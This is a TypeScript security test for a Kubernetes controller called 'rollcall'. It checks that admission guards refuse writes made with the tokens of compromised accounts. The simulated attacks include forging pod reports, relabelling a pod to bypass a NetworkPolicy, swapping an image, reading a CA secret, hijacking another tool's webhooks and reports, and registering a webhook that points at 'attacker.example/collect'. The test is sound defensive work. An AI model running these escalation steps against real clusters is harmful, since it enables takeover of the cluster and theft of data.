// Issue 36, findings 2 and 3: what rollcall's own accounts could write beyond their job, each
// attack made with the token the attacker would hold, against deploy/'s RBAC and
// guard-identities.yaml installed for this test's namespace (manifests.ts inNamespace).
// - A compromised policy-server replica holds its pod's token (bound to the pod). It may publish
//   its report on its own pod, as data-plane/main.ts does, and nothing else: not another pod's
//   report, not its own labels (which would pass the Redis NetworkPolicy) or image, not the
//   webhook CA. A token of the account that is not bound to a pod may patch no pod at all.
// - A compromised worker holds rollcall-worker's token. It may create, update and delete
//   rollcall's own webhook configurations (replayed with the worker's KubeWriter and
//   webhook-core), never take over or delete someone else's named rollcall-<x> (server-side
//   apply with force included), nor create one calling a Service elsewhere or a URL. Likewise
//   its OpenReports (issue 38): rollcall's own Reports and ClusterReports, replayed with the
//   audit's AuditApi, never another tool's, even one named as rollcall names its own.
// Without the guards every "refused" test fails, RBAC alone letting the write through
// (ROLLCALL_GUARDS_TEST_WITHOUT_GUARDS=1 leaves them out, to see it).
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { stringify } from 'yaml';
import {
  AdmissionregistrationV1Api,
  CoreV1Api,
  KubeConfig,
  PatchStrategy,
  setHeaderOptions,
  type V1ValidatingWebhookConfiguration,
} from '@kubernetes/client-node';
import { MANAGED_BY, MANAGED_BY_LABEL, REPORT_ANNOTATION } from '../../../api/constants.ts';
import type { Policy } from '../../../api/v1alpha1.ts';
import { OPENREPORTS_API_VERSION, type OpenReport } from '../../../api/audit.ts';
import { AuditApi } from '../../../control-plane/functions/audit-api.ts';
import { KubeWriter } from '../../../control-plane/functions/kube-writer.ts';
import { kubeConfigTarget } from '../../../lib/kube/api.ts';
import { buildWebhookConfiguration } from '../../../control-plane/functions/webhook-core.ts';
import { aPolicy, aPolicyServer } from '../../fixtures/builders.ts';
import { uniqueName } from '../../support/kube.ts';
import {
  build,
  createNamespace,
  deleteNamespace,
  inNamespace,
  isIdentityGuard,
  kubeconfigFor,
  kubectlOk,
  kubectlRun,
  RBAC_KINDS,
  toYaml,
  type CommandResult,
  type Manifest,
} from './manifests.ts';

const ns = 'rollcall-guards';
const withoutGuards = process.env.ROLLCALL_GUARDS_TEST_WITHOUT_GUARDS === '1';
const run = uniqueName('g').slice(0, 20);
const deploy = build();
/** The accounts with deploy/'s roles, and the guards, all for `ns`. */
const installed = inNamespace(
  deploy.filter((m) => RBAC_KINDS.has(m.kind) || (isIdentityGuard(m) && !withoutGuards)),
  ns,
);
const crds = deploy.filter((m) => m.kind === 'CustomResourceDefinition');
const guards = installed.filter((m) => m.kind === 'ValidatingAdmissionPolicy');
const dir = mkdtempSync(join(tmpdir(), 'rollcall-guards-'));

const OWN = `ps-own-${run}`;
const OTHER = `ps-other-${run}`;
const POLICY = `guarded-${run}`;
const SERVER = 'guarded';
/** Someone else's webhook configuration, named as rollcall names its own. */
const FOREIGN = `rollcall-foreign-${run}`;
/** Every webhook configuration this test makes carries it, for the clean-up. */
const RUN_LABEL = { 'rollcall.dev/guards-test': run };

const pod = (name: string, annotations?: Record<string, string>) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: {
    name,
    namespace: ns,
    labels: { 'app.kubernetes.io/name': 'policy-server', [MANAGED_BY_LABEL]: MANAGED_BY },
    ...(annotations && { annotations }),
  },
  // Never scheduled: the pod only has to exist, for its token and as the target of writes.
  spec: {
    schedulingGates: [{ name: 'rollcall.dev/never' }],
    serviceAccountName: 'rollcall-policy-server',
    automountServiceAccountToken: false,
    containers: [{ name: 'policy-server', image: 'example.invalid/policy-server:1' }],
  },
});

/** Never matches an object: the webhooks this test registers intercept nothing. */
const NEVER = { matchLabels: { 'rollcall.dev/guards-test': 'never' } };
const INERT_RULES = [
  { operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['configmaps'] },
];
const policyServerService = { service: { namespace: ns, name: `policy-server-${SERVER}` } };

/** A webhook configuration that intercepts nothing, calling `clientConfig`. */
const webhookConfiguration = (name: string, clientConfig: object, labels = {}): Manifest => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'ValidatingWebhookConfiguration',
  metadata: { name, labels: { ...RUN_LABEL, ...labels } },
  webhooks: [
    {
      name: 'inert.guards.rollcall.dev',
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
      rules: INERT_RULES,
      objectSelector: NEVER,
      clientConfig,
    },
  ],
});
const ours = { [MANAGED_BY_LABEL]: MANAGED_BY };

/** A Report (in `ns`) or ClusterReport as the audit writes one, with `labels` besides the run's. */
const openReport = (kind: OpenReport['kind'], name: string, labels = {}): OpenReport => ({
  apiVersion: OPENREPORTS_API_VERSION,
  kind,
  metadata: {
    name,
    ...(kind === 'Report' && { namespace: ns }),
    labels: { ...RUN_LABEL, ...labels },
  },
  summary: { pass: 1, fail: 0, warn: 0, error: 0, skip: 0 },
  results: [
    {
      source: 'rollcall',
      policy: POLICY,
      result: 'pass',
      timestamp: { seconds: 1_700_000_000, nanos: 0 },
      resources: [{ apiVersion: 'v1', kind: 'ConfigMap', namespace: ns, name: 'cm' }],
    },
  ],
});
/** Another tool's Report (or ClusterReport), named as rollcall names its own. */
const foreignReport = (kind: OpenReport['kind']) =>
  ({
    ...openReport(kind, FOREIGN),
    source: 'another-engine',
  }) as unknown as Manifest;

const getJson = <T>(args: string[]) => JSON.parse(kubectlOk(['get', ...args, '-o', 'json'])) as T;
const kubeConfig = (file: string) => {
  const kc = new KubeConfig();
  kc.loadFromFile(file);
  return kc;
};
const json = (value: unknown) => JSON.stringify(value);
/** The body of data-plane/main.ts's report write (a merge patch). */
const report = (value: string) => ({ metadata: { annotations: { [REPORT_ANNOTATION]: value } } });
const VWC = 'validatingwebhookconfiguration';
const VAP = 'validatingadmissionpolicy';

/** What an attack on the pods could change: each pod's labels, annotations and images. */
function podsState() {
  return [OWN, OTHER].map((name) => {
    const p = getJson<{
      metadata: { labels?: object; annotations?: object };
      spec: { containers: { image: string }[] };
    }>(['pod', name, '-n', ns]);
    return [p.metadata.labels, p.metadata.annotations, p.spec.containers.map((c) => c.image)];
  });
}

/** The outcome of an API call: status 0, or the HTTP code with the apiserver's answer. */
async function attempt(call: () => Promise<unknown>): Promise<CommandResult> {
  try {
    await call();
    return { status: 0, stdout: 'written', stderr: '' };
  } catch (err) {
    const { code, body } = err as { code?: number; body?: unknown };
    let message = String(err);
    try {
      message = (JSON.parse(String(body)) as { message: string }).message;
    } catch {
      // not a Status: the error's own text
    }
    return { status: code ?? 1, stdout: '', stderr: message };
  }
}

function assertRefused(out: CommandResult, message: RegExp) {
  assert.notEqual(out.status, 0, `the write went through: ${out.stdout}`);
  assert.match(out.stderr, message);
}

/** Retries `call` until it is refused with `message`: a new policy takes a moment to load. */
async function untilRefused(what: string, call: () => Promise<unknown>, message: RegExp) {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const out = await attempt(call);
    if (out.status !== 0 && message.test(out.stderr)) return;
    if (Date.now() > deadline)
      assert.fail(`${what} is not refused 30s after the guards were installed: ${out.stderr}`);
    await sleep(250);
  }
}

const merge = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
const jsonPatch = setHeaderOptions('Content-Type', PatchStrategy.JsonPatch);

/** A Policy in the cluster (its uid is the webhook's owner), whose webhook intercepts nothing. */
function createPolicy(): Policy {
  const base = aPolicy();
  kubectlOk(
    ['apply', '-f', '-'],
    stringify({
      apiVersion: base.apiVersion,
      kind: base.kind,
      metadata: { name: POLICY },
      spec: {
        ...base.spec,
        policyServer: SERVER,
        failurePolicy: 'Ignore',
        objectSelector: NEVER,
        rules: INERT_RULES.map((r) => ({ ...r, scope: '*' })),
      },
    }),
  );
  return getJson<Policy>(['policy.rollcall.dev', POLICY]);
}

/** The API as each identity: the attackers' tokens and the worker's own writer. */
interface Identities {
  /** rollcall-policy-server, with a token bound to pod OWN (as its projected token is). */
  replica: CoreV1Api;
  /** rollcall-policy-server, with a token bound to no pod. */
  unbound: CoreV1Api;
  worker: AdmissionregistrationV1Api;
  workerKubeconfig: string;
  writer: KubeWriter;
  /** The audit's writes of OpenReports, as the worker makes them. */
  reports: AuditApi;
}

function identities(ownUid: string): Identities {
  const account = { namespace: ns };
  const replica = kubeconfigFor('rollcall-policy-server', dir, {
    ...account,
    pod: { name: OWN, uid: ownUid },
  });
  const unbound = kubeconfigFor('rollcall-policy-server', dir, account);
  const worker = kubeconfigFor('rollcall-worker', dir, account);
  return {
    replica: kubeConfig(replica).makeApiClient(CoreV1Api),
    unbound: kubeConfig(unbound).makeApiClient(CoreV1Api),
    worker: kubeConfig(worker).makeApiClient(AdmissionregistrationV1Api),
    workerKubeconfig: worker,
    writer: new KubeWriter(kubeConfigTarget(kubeConfig(worker)), (write) => write()),
    reports: new AuditApi(kubeConfigTarget(kubeConfig(worker)), (write) => write(), ns),
  };
}

describe("rollcall's accounts, with the tokens an attacker would hold, against guard-identities.yaml", () => {
  let policy: Policy;
  let as: Identities;

  before(async () => {
    createNamespace(ns);
    kubectlOk(['apply', '-f', '-'], toYaml([...crds, ...installed]));
    kubectlOk([
      ...['wait', '--for=condition=Established', 'crd/policies.rollcall.dev'],
      ...['crd/reports.openreports.io', 'crd/clusterreports.openreports.io'],
    ]);
    kubectlOk(
      ['create', '-f', '-'],
      toYaml([foreignReport('Report'), foreignReport('ClusterReport')]),
    );
    kubectlOk([
      ...['create', 'secret', 'generic', 'rollcall-webhook-ca', '-n', ns],
      '--from-literal=tls.key=the-ca-key',
    ]);
    kubectlOk(['create', '-f', '-'], toYaml([pod(OWN), pod(OTHER, { [REPORT_ANNOTATION]: '{}' })]));
    kubectlOk(['create', '-f', '-'], stringify(webhookConfiguration(FOREIGN, policyServerService)));
    policy = createPolicy();
    as = identities(kubectlOk(['get', 'pod', OWN, '-n', ns, '-o', 'jsonpath={.metadata.uid}']));
    if (withoutGuards) return;

    await untilRefused(
      'a pod patch with an unbound policy-server token',
      () =>
        as.unbound.patchNamespacedPod(
          { name: OWN, namespace: ns, body: report('{}'), dryRun: 'All' },
          merge,
        ),
      /not bound to a pod/,
    );
    await untilRefused(
      "the worker's delete of a foreign Report",
      () => as.reports.remove('Report', ns, FOREIGN),
      /is not rollcall's/,
    );
    await untilRefused(
      "the worker's delete of a foreign webhook configuration",
      () => as.worker.deleteValidatingWebhookConfiguration({ name: FOREIGN, dryRun: 'All' }),
      /is not rollcall's/,
    );
  });

  after(() => {
    kubectlRun(['delete', 'policy.rollcall.dev', POLICY, '--ignore-not-found']);
    kubectlRun(['delete', VWC, '--ignore-not-found', '-l', `rollcall.dev/guards-test=${run}`]);
    kubectlRun(['delete', VWC, `rollcall-${POLICY}`, '--ignore-not-found']);
    kubectlRun([
      'delete',
      'clusterreports.openreports.io',
      '--ignore-not-found',
      '-l',
      `rollcall.dev/guards-test=${run}`,
    ]);
    const outside = installed.filter((m) => m.metadata.namespace !== ns);
    kubectlRun(['delete', '--ignore-not-found', '-f', '-'], toYaml(outside));
    deleteNamespace(ns);
    rmSync(dir, { recursive: true, force: true });
  });

  test('the guards type-check against the kinds they match', { skip: withoutGuards }, async () => {
    type Status = {
      observedGeneration?: number;
      typeChecking?: { expressionWarnings?: unknown[] };
    };
    for (const { metadata } of guards) {
      let status: Status = {};
      for (let i = 0; i < 120 && status.observedGeneration === undefined; i++) {
        if (i > 0) await sleep(250);
        status = getJson<{ status?: Status }>([VAP, metadata.name]).status ?? {};
      }
      assert.ok(status.observedGeneration, `${metadata.name} was type-checked`);
      assert.deepEqual(status.typeChecking?.expressionWarnings ?? [], [], metadata.name);
    }
  });

  describe('a policy-server replica, with its pod-bound token', () => {
    test('publishes its report on its own pod, with the merge patch data-plane/main.ts sends', async () => {
      // The first write adds the annotations map (the pod has none), the second replaces it.
      for (const value of [json({ first: true }), json({ second: true })]) {
        await as.replica.patchNamespacedPod(
          { name: OWN, namespace: ns, body: report(value) },
          merge,
        );
        const annotations = getJson<{ metadata: { annotations?: Record<string, string> } }>([
          ...['pod', OWN, '-n', ns],
        ]).metadata.annotations;
        assert.deepEqual(annotations, { [REPORT_ANNOTATION]: value });
      }
    });

    const patchPod =
      (name: string, body: object, type = merge) =>
      () =>
        as.replica.patchNamespacedPod({ name, namespace: ns, body }, type);
    const attacks: [what: string, call: () => Promise<unknown>, refused: RegExp][] = [
      [
        "forges another replica's report",
        patchPod(OTHER, report('{"forged":1}')),
        new RegExp(`bound to pod ${OWN} and may patch only that pod, not ${OTHER}`),
      ],
      [
        "labels its own pod as a worker's, to pass the Redis NetworkPolicy",
        patchPod(OWN, {
          metadata: {
            labels: {
              'app.kubernetes.io/name': 'rollcall',
              'app.kubernetes.io/component': 'worker',
            },
          },
        }),
        /this write also changes metadata\.labels/,
      ],
      [
        'hides a label change in a report write',
        patchPod(OWN, {
          metadata: {
            labels: { 'app.kubernetes.io/component': 'worker' },
            annotations: { [REPORT_ANNOTATION]: '{}' },
          },
        }),
        /this write also changes metadata\.labels/,
      ],
      [
        'changes its own image',
        patchPod(
          OWN,
          [
            {
              op: 'replace',
              path: '/spec/containers/0/image',
              value: 'example.invalid/attacker:1',
            },
          ],
          jsonPatch,
        ),
        /this write also changes spec/,
      ],
      [
        'writes another annotation of its own pod',
        patchPod(OWN, { metadata: { annotations: { 'example.com/other': 'x' } } }),
        /also changes metadata\.annotations other than rollcall\.dev\/policies/,
      ],
      [
        'deletes another pod',
        () => as.replica.deleteNamespacedPod({ name: OTHER, namespace: ns }),
        /forbidden/i,
      ],
      [
        'reads the webhook CA',
        () => as.replica.readNamespacedSecret({ name: 'rollcall-webhook-ca', namespace: ns }),
        /forbidden/i,
      ],
    ];
    for (const [what, call, refused] of attacks)
      test(`is refused when it ${what}`, async () => {
        const state = podsState();
        assertRefused(await attempt(call), refused);
        assert.deepEqual(podsState(), state, 'no pod changed');
      });

    test('may patch no pod with a token of its account that is not bound to a pod', async () => {
      const state = podsState();
      assertRefused(
        await attempt(() =>
          as.unbound.patchNamespacedPod({ name: OWN, namespace: ns, body: report('{}') }, merge),
        ),
        /rollcall-policy-server's token is not bound to a pod/,
      );
      assert.deepEqual(podsState(), state, 'no pod changed');
    });
  });

  describe("the worker, with rollcall-worker's token", () => {
    /** What webhook-core builds for a Policy of the server, in this namespace. */
    const webhookFor = (p: Policy) =>
      buildWebhookConfiguration(p, aPolicyServer({ name: SERVER }), { namespace: ns });
    const read = (name: string) => getJson<V1ValidatingWebhookConfiguration>([VWC, name]);
    const exists = (name: string) => kubectlRun(['get', VWC, name, '-o', 'name']).status === 0;

    test("creates, updates and deletes rollcall's own webhook configuration, as the worker does", async () => {
      const desired = webhookFor(policy);
      const name = desired.metadata!.name!;
      await as.writer.apply(desired);
      assert.equal(read(name).metadata?.labels?.[MANAGED_BY_LABEL], MANAGED_BY);
      // A newer generation (server-side apply again, with force), then the Policy's removal.
      await as.writer.apply(webhookFor({ ...policy, spec: { ...policy.spec, timeoutSeconds: 7 } }));
      assert.equal(read(name).webhooks?.[0]?.timeoutSeconds, 7);
      await as.writer.deleteWebhook(name);
      assert.equal(exists(name), false);
    });

    test('may not repoint its own webhook configuration at a Service elsewhere', async () => {
      const desired = webhookFor(policy);
      const name = desired.metadata!.name!;
      await as.writer.apply(desired);
      const repoint = [
        { op: 'replace', path: '/webhooks/0/clientConfig/service/namespace', value: 'default' },
      ];
      assertRefused(
        await attempt(() =>
          as.worker.patchValidatingWebhookConfiguration({ name, body: repoint }, jsonPatch),
        ),
        /calls Service default\/policy-server-guarded/,
      );
      await as.writer.deleteWebhook(name);
    });

    const takeovers: [what: string, attack: () => Promise<CommandResult>][] = [
      [
        "labels it rollcall's",
        () =>
          attempt(() =>
            as.worker.patchValidatingWebhookConfiguration(
              { name: FOREIGN, body: { metadata: { labels: ours } } },
              merge,
            ),
          ),
      ],
      [
        'changes its webhooks',
        () =>
          attempt(() =>
            as.worker.patchValidatingWebhookConfiguration(
              {
                name: FOREIGN,
                body: [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Fail' }],
              },
              jsonPatch,
            ),
          ),
      ],
      [
        'deletes it',
        () => attempt(() => as.worker.deleteValidatingWebhookConfiguration({ name: FOREIGN })),
      ],
      [
        'takes it over with kubectl apply --server-side --force-conflicts',
        async () =>
          kubectlRun(
            ['apply', '--server-side', '--force-conflicts', '--field-manager=rollcall', '-f', '-'],
            stringify(webhookConfiguration(FOREIGN, policyServerService, ours)),
            as.workerKubeconfig,
          ),
      ],
      [
        "takes it over with the worker's own server-side apply (KubeWriter.apply, webhook-core)",
        () => {
          const namesake = { ...policy, metadata: { ...policy.metadata, name: FOREIGN.slice(9) } };
          return attempt(() => as.writer.apply(webhookFor(namesake)));
        },
      ],
    ];
    for (const [what, attack] of takeovers)
      test(`is refused when it ${what}: a rollcall-<x> webhook configuration not rollcall's`, async () => {
        const before = read(FOREIGN);
        assertRefused(await attack(), new RegExp(`${FOREIGN} is not rollcall's`));
        const now = read(FOREIGN);
        assert.equal(now.metadata?.labels?.[MANAGED_BY_LABEL], undefined);
        assert.deepEqual(now.webhooks, before.webhooks);
      });

    const creations: [what: string, config: Manifest, refused: RegExp][] = [
      [
        'calls a Service in another namespace',
        webhookConfiguration(
          `rollcall-elsewhere-${run}`,
          { service: { namespace: 'default', name: 'kubernetes' } },
          ours,
        ),
        /calls Service default\/kubernetes; rollcall-worker's webhooks call a policy server's Service/,
      ],
      [
        "calls a Service of rollcall's namespace that is no policy server's",
        webhookConfiguration(
          `rollcall-redis-${run}`,
          { service: { namespace: ns, name: 'rollcall-redis' } },
          ours,
        ),
        new RegExp(`calls Service ${ns}/rollcall-redis`),
      ],
      [
        'calls a URL',
        webhookConfiguration(
          `rollcall-url-${run}`,
          { url: 'https://attacker.example/collect' },
          ours,
        ),
        /calls URL https:\/\/attacker\.example\/collect: rollcall-worker registers webhooks by a policy server's Service/,
      ],
      [
        `lacks the label ${MANAGED_BY_LABEL}=${MANAGED_BY}`,
        webhookConfiguration(`rollcall-unlabelled-${run}`, policyServerService),
        /writes webhook configurations labelled app\.kubernetes\.io\/managed-by=rollcall only/,
      ],
      [
        'is not named rollcall-<policy>',
        webhookConfiguration(`elsewhere-${run}`, policyServerService, ours),
        /writes only rollcall-<policy> webhook configurations/,
      ],
    ];
    for (const [what, config, refused] of creations)
      test(`may not create a webhook configuration that ${what}`, async () => {
        assertRefused(
          await attempt(() =>
            as.worker.createValidatingWebhookConfiguration({
              body: config as V1ValidatingWebhookConfiguration,
            }),
          ),
          refused,
        );
        assert.equal(
          exists(config.metadata.name),
          false,
          `${config.metadata.name} was not created`,
        );
      });
  });
  describe("the worker's OpenReports, with rollcall-worker's token", () => {
    const readReport = (kind: OpenReport['kind'], name: string) =>
      getJson<OpenReport>(
        kind === 'Report'
          ? ['reports.openreports.io', name, '-n', ns]
          : ['clusterreports.openreports.io', name],
      );
    const exists = (kind: OpenReport['kind'], name: string) =>
      kubectlRun(
        kind === 'Report'
          ? ['get', 'reports.openreports.io', name, '-n', ns, '-o', 'name']
          : ['get', 'clusterreports.openreports.io', name, '-o', 'name'],
      ).status === 0;

    for (const kind of ['Report', 'ClusterReport'] as const) {
      test(`creates, applies again and deletes rollcall's own ${kind}, as the audit does`, async () => {
        const name = `rollcall-own-${run}`;
        await as.reports.write(openReport(kind, name, ours), true);
        assert.equal(readReport(kind, name).summary.pass, 1);
        const changed = openReport(kind, name, ours);
        changed.summary = { ...changed.summary, pass: 0, fail: 1 };
        changed.results[0]!.result = 'fail';
        await as.reports.write(changed, false);
        assert.equal(readReport(kind, name).summary.fail, 1);
        await as.reports.remove(kind, kind === 'Report' ? ns : undefined, name);
        assert.equal(exists(kind, name), false);
      });

      const namespace = kind === 'Report' ? ns : undefined;
      const takeovers: [what: string, attack: () => Promise<unknown>][] = [
        [
          "applies its own over it (the audit's server-side apply, forced)",
          () => as.reports.write(openReport(kind, FOREIGN, ours), false),
        ],
        [
          'creates its own in its place (a create that finds it applies)',
          () => as.reports.write(openReport(kind, FOREIGN, ours), true),
        ],
        ['deletes it', () => as.reports.remove(kind, namespace, FOREIGN)],
      ];
      for (const [what, attack] of takeovers)
        test(`is refused when it ${what}: another tool's ${kind} named rollcall-<x>`, async () => {
          const before = readReport(kind, FOREIGN);
          assertRefused(
            await attempt(attack),
            new RegExp(`${kind} .*${FOREIGN} is not rollcall's`),
          );
          const now = readReport(kind, FOREIGN);
          assert.equal(now.metadata.labels?.[MANAGED_BY_LABEL], undefined);
          assert.deepEqual([now.source, now.results], [before.source, before.results]);
        });

      test(`may not create a ${kind} without the label ${MANAGED_BY_LABEL}=${MANAGED_BY}`, async () => {
        const name = `unlabelled-${run}`;
        assertRefused(
          await attempt(() => as.reports.write(openReport(kind, name), true)),
          /writes Reports labelled app\.kubernetes\.io\/managed-by=rollcall only/,
        );
        assert.equal(exists(kind, name), false);
      });
    }
  });
});
